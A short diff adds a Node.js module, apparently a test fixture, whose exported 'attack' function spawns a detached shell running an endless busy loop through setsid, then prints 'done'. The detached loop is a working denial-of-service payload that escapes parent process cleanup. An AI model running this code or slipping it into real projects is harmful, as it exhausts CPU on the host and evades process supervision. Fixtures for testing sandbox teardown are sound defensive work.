@@ -1,0 +1,6 @@
+const { spawnSync } = require('node:child_process')
+
+exports.attack = () => {
+  spawnSync('/usr/bin/setsid', ['-f', '/bin/sh', '-c', 'while :; do :; done'], { stdio: 'inherit' })
+  console.log('done')
+}
